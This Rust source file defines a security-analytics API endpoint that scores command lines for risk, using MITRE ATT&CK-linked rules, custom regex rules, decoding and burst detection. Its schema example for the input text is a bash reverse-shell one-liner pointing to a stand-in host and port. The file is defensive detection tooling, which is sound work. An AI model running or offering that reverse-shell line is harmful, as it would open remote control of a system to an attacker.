//! `/v1/cmdline/risk`: how risky command lines are.

use actix_web::{HttpResponse, post, web::Data};
use chrono::{DateTime, TimeDelta, Utc};
use extract::{
    command_line::{Rule, Rules, bursts},
    decode::Options,
};
use model::{Column, ColumnSpec, ColumnType, Rows, Table};
use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use super::{
    Operations,
    caller::{Allowed, scope},
    given::{Given, need, pick, text_or_table},
    limits::RequestLimits,
    problem::Problem,
    tables::{TableBody, TableForm, TakesRows},
};
use crate::services::Services;

/// Columns in which command lines, times and hosts usually stand.
const COMMANDS: &[&str] = &[
    "Command",
    "CommandLine",
    "cmdline",
    "ProcessCommandLine",
    "CreatedProcessCommandLine",
    "command_line",
    "cmd",
    "command",
];
const TIMES: &[&str] = &["TimeGenerated", "Timestamp", "UtcTime", "EventTime", "time"];
const HOSTS: &[&str] = &["Computer", "HostName", "DeviceName", "host"];

/// Own rules in one call.
const MOST_RULES: usize = 200;

/// Bursts that are told.
const MOST_BURSTS: usize = 1_000;

/// Bytes that are decoded in command lines; what is longer than that is judged as it stands.
const DECODED_BYTES: usize = 32 << 20;

/// The routes of this file.
pub(crate) fn routes(operations: &mut Operations<'_>) {
    operations.service(judge_command_lines);
}

/// Command lines.
#[derive(Debug, Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
struct RiskRequest {
    /// Command lines, one a line.
    #[serde(default)]
    #[schema(nullable = false, example = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")]
    text: Option<String>,
    /// Rows with command lines instead.
    #[serde(default)]
    #[schema(value_type = Vec<Object>, nullable = false)]
    rows: Option<Rows>,
    /// What the columns of the rows hold, if that does not show.
    #[serde(default)]
    #[schema(nullable = false)]
    columns: Option<Vec<ColumnSpec>>,
    /// The column with the command lines; the first that usually has them when left out.
    #[serde(default)]
    #[schema(nullable = false, example = "CommandLine")]
    column: Option<String>,
    /// Whether only risky rows are in the answer.
    #[serde(default)]
    only_risky: bool,
    /// Rules of the caller's own. Not in a query string.
    #[serde(default)]
    rules: Vec<OwnRule>,
    /// Whether the built-in rules hold.
    #[serde(default = "yes")]
    #[schema(default = true)]
    built_in_rules: bool,
    /// The column with the times, for bursts.
    #[serde(default)]
    #[schema(nullable = false)]
    time_column: Option<String>,
    /// The column with the hosts, for bursts.
    #[serde(default)]
    #[schema(nullable = false)]
    host_column: Option<String>,
    /// So many commands …
    #[serde(default = "default_events")]
    #[schema(minimum = 2, default = 10)]
    burst_events: usize,
    /// … within so many seconds are a burst.
    #[serde(default = "default_seconds")]
    #[schema(minimum = 0, maximum = 86_400, default = 5)]
    burst_s: f64,
}

const fn yes() -> bool {
    true
}

const fn default_events() -> usize {
    10
}

const fn default_seconds() -> f64 {
    5.0
}

/// A rule of the caller's own.
#[derive(Debug, Deserialize, ToSchema)]
#[serde(deny_unknown_fields)]
struct OwnRule {
    /// Its name, which stands in `risks`.
    name: String,
    /// A regular expression that is searched for. The time is linear: there is no looking around and no back-reference.
    #[schema(example = "(?i)backup.*--delete")]
    pattern: String,
    /// How much it says: 0 to 100.
    #[serde(default = "default_score")]
    #[schema(maximum = 100, default = 50)]
    score: u8,
}

const fn default_score() -> u8 {
    50
}

impl TakesRows for RiskRequest {
    fn take_rows(&mut self, rows: Rows) {
        self.rows = Some(rows);
    }
}

/// What stands beside the rows.
#[derive(Debug, Serialize, ToSchema)]
struct RiskBeside {
    /// How many command lines are risky.
    risky_count: usize,
    /// The rules that found something.
    #[schema(value_type = Vec<Object>)]
    rules: Vec<Rule>,
    /// Where commands came faster than anybody types, the first 1,000.
    bursts: Vec<BurstItem>,
}

/// Commands that came faster than anybody types.
#[derive(Debug, Serialize, ToSchema)]
#[schema(as = CommandBurst)]
struct BurstItem {
    /// Where, if that is known.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schema(nullable = false)]
    host: Option<String>,
    /// When the first came.
    start: DateTime<Utc>,
    /// When the last came.
    end: DateTime<Utc>,
    /// How many.
    count: usize,
    /// The row of the first, counted from 0.
    source_row: usize,
}

/// The rows, judged.
#[derive(ToSchema)]
#[expect(dead_code, reason = "describes the answer")]
struct RiskAnswer {
    /// The rows as sent, or of a text `source_row` and `command`; and `risky`, `risk_score` (0 to 100), `risks` (names of
    /// rules), `decoded` (the command line with what is encoded in it decoded). A column that has one of these names is kept
    /// with `source_` before it.
    #[schema(value_type = Vec<Object>)]
    rows: Vec<()>,
    /// The columns of the rows.
    columns: Vec<ColumnSpec>,
    /// How many rows there are.
    row_count: u64,
    /// Whether rows were left out because there were too many.
    truncated: bool,
    #[serde(flatten)]
    beside: RiskBeside,
}

/// Judge how risky command lines are
///
/// By named rules for shells of Linux and Windows, each with the technique of MITRE ATT&CK that it points to, and by the
/// caller's own. What is encoded in a command line is judged as well. Where the rows have times, bursts of commands are found.
#[utoipa::path(
    tag = "events",
    operation_id = "judge_command_lines",
    request_body(content((RiskRequest = "application/json"), (String = "application/x-ndjson"), (String = "text/csv"))),
    extensions(("x-scope" = json!("lookup"))),
    responses((
        status = OK,
        description = "The command lines with their risks.",
        content((RiskAnswer = "application/json"), (String = "application/x-ndjson"), (String = "text/csv")),
    )),
)]
#[post("/v1/cmdline/risk")]
async fn judge_command_lines(
    _: Allowed<scope::Lookup>,
    services: Data<Services>,
    limits: RequestLimits,
    form: TableForm,
    request: TableBody<RiskRequest>,
) -> Result<HttpResponse, Problem> {
    let TableBody(mut request) = request;
    limits.check_items_up_to(MOST_RULES, "/rules", request.rules.len())?;
    let given = text_or_table(&services, request.text.take(), request.rows.take(), request.columns.take()).await?;
    let (table, beside) = services.work.run(move || judge(given, &request)).await??;
    Ok(form.answer(table, &beside))
}

fn judge(given: Given, request: &RiskRequest) -> Result<(Table, RiskBeside), Problem> {
    if let Some(place) = request.rules.iter().position(|rule| rule.score > 100) {
        return Err(Problem::invalid_at(format!("/rules/{place}/score"), "at most 100"));
    }
    let own: Vec<_> = request.rules.iter().map(|rule| (rule.name.clone(), rule.pattern.clone(), rule.score)).collect();
    let rules = Rules::with(&own, request.built_in_rules).map_err(|error| {
        let extract::command_line::RuleError::Pattern(place) = error;
        Problem::invalid_at(format!("/rules/{place}/pattern"), error.to_string())
    })?;
    let within = TimeDelta::try_milliseconds((request.burst_s * 1_000.0) as i64)
        .filter(|_| (0.0..=86_400.0).contains(&request.burst_s))
        .ok_or_else(|| Problem::invalid_at("/burst_s", "must be from 0 to 86400"))?;
    if request.burst_events < 2 {
        return Err(Problem::invalid_at("/burst_events", "at least 2"));
    }
    let (table, column) = match given {
        Given::Text(_) if request.column.is_some() => {
            return Err(Problem::invalid_at("/column", "a column belongs to rows, not to text"));
        }
        Given::Text(text) => (of_lines(&text)?, Some(COMMAND.to_owned())),
        Given::Table(table) => {
            let column = need(&table, "/column", request.column.as_deref(), COMMANDS)?;
            (table, column)
        }
    };
    let times = pick(&table, "/time_column", request.time_column.as_deref(), TIMES)?;
    let hosts = pick(&table, "/host_column", request.host_column.as_deref(), HOSTS)?;
    let bursts = find_bursts(&table, times.as_deref(), hosts.as_deref(), request.burst_events, within);
    let Some(column) = column.and_then(|column| table.column(&column).cloned()) else {
        return Ok((table, RiskBeside { risky_count: 0, rules: Vec::new(), bursts }));
    };
    let options = Options { max_bytes: DECODED_BYTES, max_layers: usize::MAX, ..Options::default() };
    let judged = rules.judge_table(table, &column, options)?;
    let hit = judged.hit.iter().filter_map(|rule| rules.all().get(*rule).cloned()).collect();
    let beside = RiskBeside { risky_count: judged.risky.len(), rules: hit, bursts };
    let table = if request.only_risky { judged.table.take(&judged.risky) } else { judged.table };
    Ok((table, beside))
}

/// The column of the command lines of a text.
const COMMAND: &str = "command";

fn of_lines(text: &str) -> Result<Table, Problem> {
    let lines = || text.lines().filter(|line| !line.trim().is_empty());
    let numbers = text.lines().zip(0_i64..).filter(|(line, _)| !line.trim().is_empty()).map(|(_, number)| number);
    Ok(Table::new(vec![
        Column::of("source_row", ColumnType::Long, numbers)?,
        Column::of(COMMAND, ColumnType::String, lines())?,
    ])?)
}

fn find_bursts(
    table: &Table,
    times: Option<&str>,
    hosts: Option<&str>,
    events: usize,
    within: TimeDelta,
) -> Vec<BurstItem> {
    let Some(times) = times.and_then(|name| table.column(name)) else { return Vec::new() };
    let hosts: Option<Vec<String>> = hosts
        .and_then(|name| table.column(name))
        .map(|column| column.iter().map(|host| host.to_text().into_owned()).collect());
    let host_of = |row: usize| hosts.as_ref().and_then(|hosts| hosts.get(row)).map(String::as_str);
    let timed = times.iter().enumerate().filter_map(|(row, time)| Some((row, host_of(row), extract::instant(&time)?)));
    bursts(timed, events, within)
        .into_iter()
        .take(MOST_BURSTS)
        .map(|burst| BurstItem {
            host: burst.host,
            start: burst.start,
            end: burst.end,
            count: burst.rows.len(),
            source_row: burst.rows.first().copied().unwrap_or_default(),
        })
        .collect()
}
